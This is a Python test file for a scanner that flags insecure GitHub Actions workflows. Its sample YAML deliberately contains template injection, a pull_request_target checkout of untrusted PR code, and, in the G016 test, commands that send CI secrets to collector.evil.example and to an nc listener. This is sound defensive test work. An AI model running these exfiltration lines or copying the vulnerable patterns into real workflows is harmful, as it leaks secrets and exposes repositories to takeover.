"""GitHub Actions rules (DT-G…) on realistic workflows and composite actions, with exact positions."""

from __future__ import annotations

import textwrap

from core.models import Finding, Severity
from core.rules.base import registered_rules
from core.scan import scan_text
from tests.rules.support import at, where

WORKFLOW = ".github/workflows/ci.yml"
ACTION = ".github/actions/setup/action.yml"
SHA = "b4ffde65f46336ab88eb53be808477a3936bae11"


def scan(rule_id: str, text: str, path: str = WORKFLOW) -> list[Finding]:
    return [f for f in scan_text(path, textwrap.dedent(text)) if f.rule_id == rule_id]


# ---------------------------------------------------------------------------------------------- G001

TRIAGE = """\
    name: triage
    on:
      issues:
        types: [opened]
    permissions:
      issues: write
    env:
      TITLE: ${{ github.event.issue.title }}
    jobs:
      label:
        runs-on: ubuntu-latest
        steps:
          - name: Label by title
            run: |
              echo "New issue #${{ github.event.issue.number }}"
              if echo "${{ github.event.issue.title }}" | grep -qi bug; then
                gh issue edit "$NUMBER" --add-label bug
              fi
          - name: Folded
            run: >
              echo
              ${{ github.event.issue.body }}
          - run: "echo \\"${{ github.head_ref }}\\""
          - run: echo "${{ env.TITLE }}" and "$TITLE"
          - run: echo "${{ contains(github.event.issue.title, 'bug') }}"
          - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
            with:
              script: |
                const title = "${{ github.event.issue.title }}";
    """


def test_g001_points_at_each_expression_in_every_scalar_style() -> None:
    findings = scan("DT-G001", TRIAGE)
    assert [where(f) for f in findings] == [
        at(TRIAGE, "${{ github.event.issue.title }}", 2),  # literal block, second line
        at(TRIAGE, "${{ github.event.issue.body }}"),  # folded block
        at(TRIAGE, "${{ github.head_ref }}"),  # double-quoted with escapes
        at(TRIAGE, "${{ env.TITLE }}"),  # env set from the issue title
        at(TRIAGE, "${{ github.event.issue.title }}", 3),  # github-script
    ]
    assert findings[0].severity is Severity.HIGH
    assert "github.event.issue.title" in findings[0].message
    assert "env.TITLE" in findings[3].message
    fix = dict(findings[0].extra)
    assert fix["env_name"] == "ISSUE_TITLE" and fix["sink"] == "run"
    assert dict(findings[4].extra)["sink"] == "script"


def test_g001_ignores_numbers_booleans_and_env_variables() -> None:
    text = """\
        on: pull_request
        jobs:
          t:
            runs-on: ubuntu-latest
            env:
              TITLE: ${{ github.event.pull_request.title }}
            steps:
              - run: |
                  echo "PR #${{ github.event.pull_request.number }} by ${{ github.actor }}"
                  echo "$TITLE"
                  test "${{ github.event.pull_request.title == 'x' }}" = true
        """
    assert scan("DT-G001", text) == []


def test_g001_suppressed_by_our_pragma_and_zizmors() -> None:
    text = """\
        on: issues
        jobs:
          t:
            runs-on: ubuntu-latest
            steps:
              - run: |
                  # zizmor: ignore[template-injection]
                  echo "${{ github.event.issue.title }}"
                  echo "${{ github.event.issue.body }}"  # devops-tui: ignore[DT-G001]
                  echo done
                  echo "${{ github.event.comment.body }}"
        """
    findings = scan("DT-G001", text)
    assert [where(f) for f in findings] == [at(text, "${{ github.event.comment.body }}")]


# ---------------------------------------------------------------------------------------------- G002

DISPATCH = """\
    on:
      workflow_dispatch:
        inputs:
          version:
            description: version to release
          dry-run:
            type: boolean
          target:
            type: choice
            options: [staging, production]
    permissions: {}
    jobs:
      release:
        runs-on: ubuntu-latest
        steps:
          - run: ./release.sh "${{ inputs.version }}" --dry=${{ inputs.dry-run }} --to ${{ inputs.target }}
          - run: echo ${{ github.event.inputs.version }}
    """


def test_g002_flags_text_inputs_only() -> None:
    findings = scan("DT-G002", DISPATCH)
    assert [where(f) for f in findings] == [
        at(DISPATCH, "${{ inputs.version }}"),
        at(DISPATCH, "${{ github.event.inputs.version }}"),
    ]
    assert findings[0].severity is Severity.MEDIUM
    assert dict(findings[0].extra)["env_name"] == "VERSION"


def test_g002_composite_action_inputs_and_no_inputs_in_push_workflow() -> None:
    action = """\
        name: setup
        inputs:
          requirements:
            description: requirements file
        runs:
          using: composite
          steps:
            - shell: bash
              run: |
                python -m pip install --upgrade pip
                pip install -r ${{ inputs.requirements }}
        """
    findings = scan("DT-G002", action, ACTION)
    assert [where(f) for f in findings] == [at(action, "${{ inputs.requirements }}")]
    assert "caller" in findings[0].message
    push = "on: push\njobs:\n  b:\n    runs-on: x\n    steps:\n      - run: echo ${{ inputs.x }}\n"
    assert scan("DT-G002", push) == []


# ---------------------------------------------------------------------------------------- G003 / G004

PINS = f"""\
    on: push
    permissions:
      contents: read
    jobs:
      build:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
            with:
              persist-credentials: false
          - uses: actions/setup-node@{SHA} # v4.0.2
          - uses: rtCamp/action-slack-notify@master
          - uses: docker/login-action@v3.1.0
          - uses: ./.github/actions/setup
          # zizmor: ignore[unpinned-uses]
          - uses: some/ignored-action@v1
      call:
        uses: octo-org/shared/.github/workflows/deploy.yml@main
    """


def test_g003_third_party_refs_point_at_the_ref() -> None:
    findings = scan("DT-G003", PINS)
    assert [where(f) for f in findings] == [
        at(PINS, "master"),
        at(PINS, "v3.1.0"),
        at(PINS, "main", 1),
    ]
    assert "branch `master`" in findings[0].message and "tag `v3.1.0`" in findings[1].message
    assert dict(findings[0].extra) == {"action": "rtCamp/action-slack-notify", "ref": "master"}
    assert all(f.severity is Severity.MEDIUM for f in findings)


def test_g004_github_owned_is_low_and_sha_pins_pass() -> None:
    findings = scan("DT-G004", PINS)
    assert [where(f) for f in findings] == [at(PINS, "v4")]
    assert findings[0].severity is Severity.LOW


def test_g003_checkov_pragma_on_line_above() -> None:
    text = """\
        on: push
        jobs:
          b:
            runs-on: ubuntu-latest
            steps:
              # checkov:skip=CKV_GHA_8 vendored and reviewed
              - uses: vendor/tool@v2
              - uses: vendor/other@v2
        """
    assert [where(f) for f in scan("DT-G003", text)] == [at(text, "v2", 2)]


# ---------------------------------------------------------------------------------------------- G005

PWN = """\
    # Builds a preview environment for every pull request, forks included.
    name: pr-preview
    on:
      pull_request_target:
        types: [opened, synchronize]
    jobs:
      preview:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
            with:
              ref: ${{ github.event.pull_request.head.sha }}
          - run: |
              npm ci
              gh pr checkout ${{ github.event.pull_request.number }}
    """


def test_g005_checkout_of_pr_head_in_pull_request_target() -> None:
    findings = scan("DT-G005", PWN)
    assert [where(f) for f in findings] == [
        at(PWN, "${{ github.event.pull_request.head.sha }}"),
        at(PWN, "gh pr checkout"),
    ]
    assert findings[0].severity is Severity.CRITICAL
    assert "pull_request_target" in findings[0].message


def test_g005_not_for_pull_request_or_base_checkout() -> None:
    assert scan("DT-G005", PWN.replace("pull_request_target:", "pull_request:")) == []
    base = PWN.replace("ref: ${{ github.event.pull_request.head.sha }}", "ref: main").replace(
        "gh pr checkout", "echo")
    assert scan("DT-G005", base) == []


# ---------------------------------------------------------------------------------------- G006 - G008

TWO_JOBS = """\
    on: push
    jobs:
      test:
        runs-on: ubuntu-latest
        steps:
          - run: make test
      publish:
        runs-on: ubuntu-latest
        permissions:
          packages: write
        steps:
          - run: make publish
    """


def test_g006_job_without_permissions_when_workflow_has_none() -> None:
    findings = scan("DT-G006", TWO_JOBS)
    assert [where(f) for f in findings] == [at(TWO_JOBS, "test")]
    assert "`test`" in findings[0].message
    assert dict(findings[0].extra) == {"jobs_line": "2"}


def test_g006_top_level_permissions_cover_all_jobs() -> None:
    text = TWO_JOBS.replace("jobs:\n", "permissions:\n  contents: read\njobs:\n", 1)
    assert scan("DT-G006", text) == []


def test_g007_write_all_anywhere_and_checkov_pragma() -> None:
    text = """\
        on: push
        permissions: write-all
        jobs:
          a:
            runs-on: ubuntu-latest
            permissions: write-all  # checkov:skip=CKV2_GHA_1 needs to push tags
            steps: [{run: make}]
          b:
            runs-on: ubuntu-latest
            permissions: read-all
            steps: [{run: make}]
        """
    findings = scan("DT-G007", text)
    assert [where(f) for f in findings] == [at(text, "write-all")]
    assert findings[0].severity is Severity.HIGH


def test_g008_workflow_level_write_with_several_jobs_only() -> None:
    text = """\
        on: push
        permissions:
          contents: read
          pull-requests: write
        jobs:
          lint: {runs-on: ubuntu-latest, steps: [{run: make lint}]}
          comment: {runs-on: ubuntu-latest, steps: [{run: make comment}]}
        """
    findings = scan("DT-G008", text)
    assert [where(f) for f in findings] == [at(text, "pull-requests")]
    single = text.replace("  lint: {runs-on: ubuntu-latest, steps: [{run: make lint}]}\n", "")
    assert scan("DT-G008", single) == []


# ---------------------------------------------------------------------------------------------- G009


def test_g009_checkout_without_persist_credentials_false() -> None:
    text = """\
        on: push
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - name: Check out
                uses: actions/checkout@v4
              - uses: actions/checkout@v4
                with:
                  persist-credentials: false
              - uses: actions/checkout@v4
                with:
                  fetch-depth: 0
                  persist-credentials: true
        """
    findings = scan("DT-G009", text)
    assert [where(f) for f in findings] == [at(text, "actions/checkout@v4"), at(text, "true")]
    assert dict(findings[0].extra)["step_line"] == "6"
    assert dict(findings[0].extra)["with_line"] == ""
    assert dict(findings[1].extra)["with_line"] == "12"


# ---------------------------------------------------------------------------------------------- G010


def test_g010_untrusted_write_to_github_env() -> None:
    text = """\
        on: pull_request
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - env:
                  BRANCH: ${{ github.head_ref }}
                run: |
                  echo "BRANCH=$BRANCH" >> "$GITHUB_ENV"
              - run: echo "TITLE=${{ github.event.pull_request.title }}" >> $GITHUB_ENV
              - run: echo "SHA=${{ github.sha }}" >> $GITHUB_ENV
              - run: echo "$HOME/bin" >> ${GITHUB_PATH}
        """
    findings = scan("DT-G010", text)
    assert [where(f) for f in findings] == [at(text, "$GITHUB_ENV", 1), at(text, "$GITHUB_ENV", 2)]
    assert "`$BRANCH` holds `github.head_ref`" in findings[0].message


def test_g010_any_write_in_workflow_run_workflow() -> None:
    text = """\
        on:
          workflow_run:
            workflows: [ci]
            types: [completed]
        jobs:
          a:
            runs-on: ubuntu-latest
            steps:
              - run: cat artifact/env.txt >> $GITHUB_ENV
        """
    findings = scan("DT-G010", text)
    assert [where(f) for f in findings] == [at(text, "$GITHUB_ENV")]
    assert "workflow_run" in findings[0].message


# ---------------------------------------------------------------------------------------------- G011


def test_g011_unsecure_commands_in_env_and_run() -> None:
    text = """\
        on: push
        env:
          ACTIONS_ALLOW_UNSECURE_COMMANDS: true
        jobs:
          a:
            runs-on: ubuntu-latest
            env:
              ACTIONS_ALLOW_UNSECURE_COMMANDS: "false"
            steps:
              - run: echo "ACTIONS_ALLOW_UNSECURE_COMMANDS=true" >> $GITHUB_ENV
        """
    findings = scan("DT-G011", text)
    assert [where(f)[:2] for f in findings] == [at(text, "ACTIONS_ALLOW_UNSECURE_COMMANDS")[:2],
                                                at(text, "ACTIONS_ALLOW_UNSECURE_COMMANDS=true")[:2]]
    assert scan("DT-G011", text.replace("COMMANDS: true", "COMMANDS: false").replace("=true", "=no")) == []


# ---------------------------------------------------------------------------------------------- G012


def test_g012_secrets_inherit() -> None:
    text = """\
        on: push
        jobs:
          deploy:
            uses: octo-org/infra/.github/workflows/deploy.yml@v1
            secrets: inherit
          notify:
            uses: ./.github/workflows/notify.yml
            secrets:
              SLACK_WEBHOOK: ${{ secrets.SLACK_WEBHOOK }}
        """
    findings = scan("DT-G012", text)
    assert [where(f) for f in findings] == [at(text, "inherit")]
    assert "deploy.yml@v1" in findings[0].message


# ---------------------------------------------------------------------------------------------- G013


def test_g013_finding_carries_no_snippet() -> None:
    text = "on: push\njobs:\n  a:\n    container:\n      image: x:1\n      credentials:\n" \
        "        username: ci\n        password: hunter2-Vq8xT3\n"
    assert all("hunter2" not in f.snippet for f in scan("DT-G013", text))


def test_g013_literal_registry_password_is_redacted() -> None:
    text = """\
        on: push
        jobs:
          a:
            runs-on: ubuntu-latest
            container:
              image: registry.example.com/build:1.4
              credentials:
                username: ci
                password: hunter2-Vq8xT3
            services:
              db:
                image: registry.example.com/db:16
                credentials:
                  username: ci
                  password: ${{ secrets.REGISTRY_PASSWORD }}
            steps: [{run: make}]
        """
    findings = scan("DT-G013", text)
    assert [where(f) for f in findings] == [at(text, "hunter2-Vq8xT3")]
    assert "hunter2-Vq8xT3" not in findings[0].message and "sha256:" in findings[0].message


# ---------------------------------------------------------------------------------------------- G014


def test_g014_cache_in_release_workflow() -> None:
    text = """\
        on:
          push:
            tags: ["v*"]
        jobs:
          release:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/setup-node@v4
                with:
                  node-version: 20
                  cache: npm
              - uses: actions/setup-python@v5
                with:
                  cache: ""
              - run: npm ci && npm publish
        """
    findings = scan("DT-G014", text)
    assert [where(f) for f in findings] == [at(text, "npm", 1)]
    assert "release workflow" in findings[0].message


def test_g014_publishing_job_only() -> None:
    text = """\
        on:
          push:
            branches: [main]
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/cache@v4
                with: {path: ~/.npm, key: npm}
              - run: npm test
          publish:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/setup-go@v5
              - run: goreleaser release
        """
    findings = scan("DT-G014", text)
    assert [where(f) for f in findings] == [at(text, "actions/setup-go@v5")]
    assert "publishing job" in findings[0].message


# ---------------------------------------------------------------------------------------------- G015


def test_g015_unpinned_job_images_and_docker_actions() -> None:
    text = """\
        on: push
        jobs:
          a:
            runs-on: ubuntu-latest
            container: ubuntu
            services:
              cache:
                image: redis:latest
              db:
                image: postgres:16.2
            steps:
              - uses: docker://alpine:3.19
              - uses: docker://alpine@sha256:c5b1261d6d3e43071626931fc004f70149baeba2c8ec672bd4f27761f8e1ad6b
        """
    findings = scan("DT-G015", text)
    assert [where(f) for f in findings] == [
        at(text, "ubuntu", 2), at(text, "redis:latest"), at(text, "docker://alpine:3.19"),
    ]
    assert "no tag" in findings[0].message and "latest" in findings[1].message


# ---------------------------------------------------------------------------------------------- G016


def test_g016_secret_sent_off_github() -> None:
    text = """\
        on: push
        jobs:
          a:
            runs-on: ubuntu-latest
            env:
              DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}
            steps:
              - run: |
                  curl -sf -d "k=${{ secrets.NPM_TOKEN }}" https://collector.evil.example/x
                  curl -H "Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}" https://api.github.com/repos
                  echo "$DEPLOY_KEY" | nc 203.0.113.9 4444
                  echo "${{ secrets.NPM_TOKEN }}" > ~/.npmrc
        """
    findings = scan("DT-G016", text)
    assert [where(f) for f in findings] == [at(text, "${{ secrets.NPM_TOKEN }}"), at(text, "$DEPLOY_KEY")]
    assert "collector.evil.example" in findings[0].message
    assert "nc" in findings[1].message


# ---------------------------------------------------------------------------------------------- all


def test_every_g_rule_has_help_and_peer_aliases_are_well_formed() -> None:
    rules = {k: v for k, v in registered_rules().items() if k.startswith("DT-G")}
    assert len(rules) == 16
    for rule in rules.values():
        assert len(rule.help) > 120, rule.id
        assert all(alias.split(":", 1)[0] in {"zizmor", "checkov", "kics"} for alias in rule.aliases)


def test_crash_free_on_odd_documents() -> None:
    odd = [
        "on: push\njobs: []\n",
        "on: push\njobs:\n  a: 3\n",
        "on: push\njobs:\n  a:\n    steps: {run: x}\n",
        "on: [push, pull_request_target]\njobs:\n  a:\n    steps:\n      - 7\n      - uses: 5\n"
        "      - run: [1]\n",
        "- just\n- a list\n",
        "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo ${{ github.event.issue.title\n",
    ]
    for text in odd:
        findings = scan_text(WORKFLOW, text)
        assert not [f for f in findings if f.rule_id == "DT-X001"], (text, findings)
